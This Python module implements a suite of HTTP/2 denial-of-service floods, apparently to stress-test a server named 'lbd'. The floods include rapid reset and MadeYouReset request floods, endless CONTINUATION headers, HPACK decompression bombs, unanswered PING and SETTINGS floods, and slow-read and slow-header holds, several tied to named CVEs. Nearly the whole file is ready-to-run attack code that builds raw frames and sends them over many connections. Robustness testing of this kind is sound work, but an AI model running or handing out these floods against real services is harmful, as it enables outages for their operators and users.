"""The HTTP/2 floods among the attacks (attacks.py), with prior knowledge on a plain port."""
import collections
import select
import struct
import threading
import time

import hpack

from h2_client import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING,
                       PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
                       request_fields)

WHOLE = END_HEADERS | END_STREAM
FRAMES_MAX = 200_000  # of a connection
BATCH = 200  # frames in a write
STREAMS = 100  # that lbd allows at once
SILENT = frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0))  # no window: nothing of a body is taken


class Talk:
    """A connection of an attacker that keeps count of what comes back."""

    def __init__(self, site, wire, reads, number):
        wire.setblocking(False)
        self.site, self.wire, self.reads, self.number = site, wire, reads, number
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.data, self.code, self.closed = b"", None, False
        self.seen = collections.Counter()

    def block(self, path="/id", method="GET", *more):
        return self.encoder.encode(request_fields(path, method, *more))

    def push(self, data):
        """False: the server has hung up, or there is no more time."""
        view = memoryview(data)
        while view and not self.closed and not self.site.over():
            wanted = [self.wire] if self.reads else []
            readable, writable, _ = select.select(wanted, [self.wire], [], 0.2)
            if readable:
                self.take()
            if writable:
                try:
                    sent = self.wire.send(view)
                except BlockingIOError:
                    continue
                except OSError:
                    return False
                self.site.bytes += sent
                view = view[sent:]
            elif not readable and not self.reads:
                return False  # it takes no more of a client that does not read
        return not view

    def rest(self, seconds):
        """What comes until the end of the connection, of the time, or for `seconds` nothing."""
        while not self.closed and not self.site.over():
            if not select.select([self.wire], [], [], seconds)[0]:
                return
            self.take()

    def take(self):
        try:
            piece = self.wire.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            piece = b""
        self.closed = not piece
        self.data += piece
        while len(self.data) >= 9:
            size = 9 + int.from_bytes(self.data[:3], "big")
            if len(self.data) < size:
                return
            self.note(self.data[3], self.data[9:size])
            self.data = self.data[size:]

    def note(self, kind, payload):
        if kind == GOAWAY:
            self.code = struct.unpack("!I", payload[4:8])[0]
        elif kind == RST_STREAM:
            self.seen[f"reset {struct.unpack('!I', payload)[0]}"] += 1
        elif kind == HEADERS:
            self.seen[dict(self.decoder.decode(payload)).get(":status", "trailers")] += 1

    def ended(self):
        if self.code is not None:
            return f"goaway {self.code}"
        return "closed" if self.closed else "open"


def flood(site, make, reads=True, settings=None, rest=0.5):
    """Each round a connection on which all goes out that `make(talk)` gives, a batch at a time."""
    for number in site.rounds():
        if wire := site.dial():
            converse(Talk(site, wire, reads, number), make, settings, rest)


def hold(site, make, most=64):
    """The same on all connections at once, without a window for responses, until the end."""
    talks = [Talk(site, wire, True, number) for number in site.rounds() if number < most
             and (wire := site.dial())]
    threads = [threading.Thread(target=converse, args=(talk, make, SILENT, site.seconds))
               for talk in talks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def converse(talk, make, settings, rest):
    with talk.wire:
        going = talk.push(PREFACE + (settings or frame(SETTINGS, 0, 0)))
        for data in make(talk) if going else ():
            if not talk.push(data):
                break
        talk.rest(rest)
    with talk.site.lock:
        talk.site.ended[talk.ended()] += 1
        talk.site.ended.update(talk.seen)


def repeated(make):
    """Batches of make(n), as many frames as a connection may send."""
    for start in range(0, FRAMES_MAX, BATCH):
        yield b"".join(make(n) for n in range(start, start + BATCH))


def same(data):
    return lambda talk: (data * BATCH for _ in range(FRAMES_MAX // BATCH))


def request(talk, stream, end=True, path="/id", method="GET", *more):
    return frame(HEADERS, WHOLE if end else END_HEADERS, stream, talk.block(path, method, *more))


def h2_rapid_reset(site):
    """Requests that are reset at once (CVE-2023-44487)."""

    def make(talk):
        yield request(talk, 1)  # fills the compression table
        cancel = struct.pack("!I", 8)
        yield from repeated(lambda n: request(talk, 2 * n + 3) + frame(
            RST_STREAM, 0, 2 * n + 3, cancel))

    flood(site, make)


def h2_made_you_reset(site):
    """Requests that the server must reset (CVE-2025-8671), by one breach or another."""
    breaches = (
        lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", 2**31 - 1)),
        lambda stream: frame(DATA, END_STREAM, stream, b"longer than it said"),
        lambda stream: frame(DATA, END_STREAM, stream),  # shorter
    )

    def make(talk):
        breach, length = breaches[talk.number % len(breaches)], ("content-length", "1")
        yield from repeated(lambda n: request(
            talk, 2 * n + 1, False, "/checksum", "POST", length) + breach(2 * n + 1))

    flood(site, make)


def h2_continuations(site):
    """A head that goes on and on in CONTINUATION frames."""
    fields = b"\x00\x01a\x01b" * 20

    def make(talk):
        yield frame(HEADERS, END_STREAM, 1, talk.block())
        yield from same(frame(CONTINUATION, 0, 1, fields))(talk)

    flood(site, make)


def h2_empty_continuations(site):
    """The same with frames of nothing."""

    def make(talk):
        yield frame(HEADERS, END_STREAM, 1, talk.block())
        yield from same(frame(CONTINUATION, 0, 1))(talk)

    flood(site, make)


def bomb(talk, stream, size, count, path="/id"):
    """A request with `count` fields of `size` bytes, a byte each on the wire but the first."""
    text = [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", path)]
    head = b"".join(b"\x00" + string(name) + string(value) for name, value in text)
    table = b"\x40" + string("x-bomb") + string("b" * size)  # now the newest entry: index 62
    return frame(HEADERS, WHOLE, stream, head + table + b"\xbe" * (count - 1))


def h2_refused_continuations(site):
    """A head that goes on after what it is refused for."""

    def make(talk):
        yield frame(HEADERS, END_STREAM, 1, talk.block() + b"\x00" + string("BAD") + string("x"))
        yield from same(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 20))(talk)

    flood(site, make)


def string(text):
    """As HPACK has it, without Huffman's code (RFC 7541 §5.2)."""
    size, head = len(text), b""
    if size < 127:
        return bytes([size]) + text.encode()
    size -= 127
    while size >= 128:
        head, size = head + bytes([128 + size % 128]), size // 128
    return b"\x7f" + head + bytes([size]) + text.encode()


def h2_hpack_bombs(site):
    """Heads of 12,000 references to one large field (CVE-2026-49975)."""
    flood(site, lambda talk: (bomb(talk, 2 * n + 1, 3900, 12_000) for n in range(STREAMS)))


def h2_hpack_bombs_held(site):
    """As large as heads may be, 64 KiB from some 120 bytes, their responses not taken."""
    hold(site, lambda talk: (bomb(talk, 2 * n + 1, 480, 118, f"/size?n={site.size}")
                             for n in range(STREAMS)))


def h2_many_fields(site):
    """Heads of 2,000 fields of two bytes."""
    fields = b"\x00\x01a\x01b" * 2000
    flood(site, lambda talk: (frame(HEADERS, WHOLE, 2 * n + 1, talk.block() + fields)
                              for n in range(STREAMS)))


def h2_large_fields(site):
    """Heads of `size` bytes in all, in frames as large as they may be."""

    def make(talk):
        field = b"\x00" + string("x-long") + string("a" * 16_000)
        yield frame(HEADERS, END_STREAM, 1, talk.block())
        for _ in range(site.size // len(field)):
            yield frame(CONTINUATION, 0, 1, field)
        yield frame(CONTINUATION, END_HEADERS, 1)

    flood(site, make)


def h2_settings(site):
    """SETTINGS, each to be acknowledged."""
    flood(site, same(frame(SETTINGS, 0, 0)))


def h2_settings_unread(site):
    """SETTINGS of a client that reads no acknowledgement."""
    flood(site, same(frame(SETTINGS, 0, 0)), reads=False)


def h2_pings(site):
    """PINGs, each to be answered."""
    flood(site, same(frame(PING, 0, 0, b"floodfld")))


def h2_pings_unread(site):
    """PINGs of a client that reads no answer (CVE-2019-9512)."""
    flood(site, same(frame(PING, 0, 0, b"floodfld")), reads=False)


def h2_acks(site):
    """Answers to PINGs that nobody sent."""
    flood(site, same(frame(PING, ACK, 0, b"floodfld")))


def h2_empty_frames(site):
    """A body in DATA frames of nothing (CVE-2019-9518)."""

    def make(talk):
        yield request(talk, 1, False, "/checksum", "POST")
        yield from same(frame(DATA, 0, 1))(talk)

    flood(site, make)


def h2_priorities(site):
    """Streams that change their priority, none of them open."""
    flood(site, lambda talk: repeated(
        lambda n: frame(PRIORITY, 0, 2 * n + 1, struct.pack("!IB", 0, n % 256))))


def h2_window_updates(site):
    """A window that opens byte by byte."""
    flood(site, same(frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1))))


def h2_slow_reads(site):
    """100 large responses on each connection, of which nothing is taken."""
    hold(site, lambda talk: (request(talk, 2 * n + 1, True, f"/size?n={site.size}")
                             for n in range(STREAMS)))


def h2_slow_heads(site):
    """A head that comes in CONTINUATION frames of nothing, one in 200 ms."""

    def make(talk):
        yield frame(HEADERS, END_STREAM, 1, talk.block())
        while not talk.site.over():
            yield frame(CONTINUATION, 0, 1)
            time.sleep(0.2)

    hold(site, make)


ATTACKS = (h2_rapid_reset, h2_made_you_reset, h2_continuations, h2_empty_continuations,
           h2_refused_continuations, h2_hpack_bombs, h2_hpack_bombs_held, h2_many_fields,
           h2_large_fields, h2_settings, h2_settings_unread, h2_pings, h2_pings_unread, h2_acks,
           h2_empty_frames, h2_priorities, h2_window_updates, h2_slow_reads, h2_slow_heads)
